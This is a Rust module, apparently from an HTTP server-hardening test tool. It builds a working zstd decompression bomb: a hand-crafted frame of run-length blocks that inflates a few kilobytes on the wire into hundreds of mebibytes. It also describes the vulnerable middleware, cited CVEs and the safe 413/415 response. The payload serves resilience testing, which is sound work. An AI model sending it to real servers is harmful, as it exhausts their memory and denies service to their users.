//! Zeros, with `Content-Encoding: zstd`.
//!
//! Zstandard by hand (RFC 8878): one frame of RLE blocks, four bytes for each 128 KiB.

use bytes::Bytes;

use crate::payload::pieces::{once, repeated};
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "zstd-bomb",
    group: Group::Archives,
    about: About {
        summary: "Zeros, with `Content-Encoding: zstd`.",
        provokes: "Middleware that decompresses a request before any limit is asked. The frame states its size, which \
                   one-shot decoders allocate before they decode anything.",
        seen: "CVE-2026-42587 (netty ignores maxAllocation for br, zstd and snappy), headroomlabs-ai/headroom issue \
               3284, vm0-ai/vm0 issue 10128.",
        becomes: "512 MiB are 16 kB on the wire, and 512 MiB at once in Python's zstandard.",
        safe: "415, or 413: from the size in the first 14 bytes, or from decompressing in pieces under a limit.",
    },
    parameters: &[Parameter {
        name: "size",
        about: "size after decompression",
        takes: Takes::Size { least: 1, most: 1 << 40, default: 1 << 29 },
    }],
    form: Form::Body(make),
};

fn make(values: &Values, _: &Turn) -> Body {
    let size = values.number("size");
    Body::new("application/octet-stream", wire_size(size), chunks(size)).with("content-encoding", "zstd")
}

/// Magic number; eight bytes of content size, no checksum; a window of 128 KiB, as long as a block can be.
const HEADER: [u8; 6] = [0x28, 0xb5, 0x2f, 0xfd, 0xc0, 0x38];
const LONGEST: u64 = 128 << 10;
const BLOCK: u64 = 4;

fn wire_size(size: u64) -> u64 {
    HEADER.len() as u64 + 8 + size.div_ceil(LONGEST) * BLOCK
}

fn chunks(size: u64) -> impl Iterator<Item = Bytes> + Send {
    let blocks = size.div_ceil(LONGEST) - 1;
    let head = [&HEADER[..], &size.to_le_bytes()].concat();
    let last = block(size - blocks * LONGEST, true);
    once(head).chain(repeated(&block(LONGEST, false), blocks * BLOCK)).chain(once(last))
}

/// An RLE block (type 1) of zeros.
fn block(count: u64, last: bool) -> Vec<u8> {
    let header = (count as u32) << 3 | 1 << 1 | u32::from(last);
    // Three bytes of header, and the byte that repeats.
    header.to_le_bytes()[..3].iter().copied().chain([0]).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_real_decoder_finds_every_zero() {
        for size in [1, 2, LONGEST - 1, LONGEST, LONGEST + 1, 50_000_000] {
            let wire: Vec<u8> = chunks(size).flatten().collect();
            assert_eq!(wire.len() as u64, wire_size(size));
            let mut decoder = ruzstd::decoding::StreamingDecoder::new(&wire[..]).unwrap();
            let mut zeros = Vec::new();
            std::io::Read::read_to_end(&mut decoder, &mut zeros).unwrap();
            assert_eq!(zeros.len() as u64, size);
            assert!(zeros.iter().all(|byte| *byte == 0));
        }
    }

    #[test]
    fn a_gibibyte_is_33_kb_on_the_wire() {
        assert_eq!(wire_size(1 << 30) / 1000, 32);
    }
}
